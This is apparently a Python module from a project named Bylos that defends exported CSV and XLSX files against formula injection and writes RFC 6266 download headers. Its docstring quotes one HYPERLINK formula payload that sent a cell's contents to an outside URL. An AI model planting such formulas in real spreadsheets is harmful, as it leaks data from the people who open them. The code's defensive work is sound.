"""What Bylos writes for others to open: spreadsheets that cannot run, file names that cannot break.

- A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
  formula to Excel and LibreOffice: a plan case titled ``=HYPERLINK("http://…"&B3,"Atidaryti")``
  became a live link that sends the next cell away. In an XLSX every such cell is written as a
  text cell with the quote prefix (``neutralise_workbook``): it shows exactly what was typed and
  stays text even when edited. A CSV has no cell types, so ``csv_cell`` puts an apostrophe in
  front (OWASP's CSV injection advice). Every XLSX and CSV writer calls one of these.
- ``content_disposition`` writes RFC 6266 headers: an ASCII ``filename`` for old clients and
  ``filename*=UTF-8''…`` for the real name (a register coded „ŠV“ answered 500 on its XLSX
  because HTTP headers are Latin-1).
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable, Sequence
from urllib.parse import quote

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HEADER_FILL = PatternFill("solid", fgColor="D9D9D9")
_ASCII_UNSAFE = re.compile(r"[^A-Za-z0-9._ ()\-]+")
# RFC 5987 attr-char, the characters that need no percent-encoding in filename*.
_ATTR_CHARS = "!#$&+-.^_`|~"


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(_FORMULA_START)


def csv_cell(value: object) -> object:
    """``value`` for a CSV cell; text a spreadsheet would run as a formula gets an apostrophe."""
    if formula_like(value):
        return "'" + str(value)
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def neutralise_workbook(book: Workbook) -> Workbook:
    """Make every cell that a spreadsheet program would treat as a formula a plain text cell.

    openpyxl itself turns any string starting with ``=`` into a formula; Bylos never writes a
    formula, so no cell of its workbooks may be one."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return book


def ascii_filename(name: str) -> str:
    """A plain-ASCII stand-in for ``name``: letters lose their marks, anything else is ``_``."""
    folded = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode("ascii")
    safe = _ASCII_UNSAFE.sub("_", folded).strip(" .") or "failas"
    return safe[:150]


def content_disposition(filename: str, disposition: str = "attachment") -> str:
    """RFC 6266: ``attachment; filename="ascii"; filename*=UTF-8''percent-encoded``."""
    fallback = ascii_filename(filename)
    encoded = quote(filename[:200], safe=_ATTR_CHARS)
    return f"{disposition}; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"


def headed_sheet(
    book: Workbook, title: str, headers: Sequence[str], widths: Sequence[float]
) -> Worksheet:
    """The book's first sheet, titled, with its header row (``header_row``)."""
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    return header_row(sheet, headers, widths)


def header_row(sheet: Worksheet, headers: Sequence[str], widths: Sequence[float]) -> Worksheet:
    """A list's header as every Bylos workbook has it: bold on grey, wrapped, the columns'
    widths, and frozen above the rows."""
    sheet.append(list(headers))
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
        cell = sheet.cell(row=1, column=column)
        cell.font = Font(bold=True)
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(vertical="center", wrap_text=True)
    sheet.freeze_panes = "A2"
    return sheet
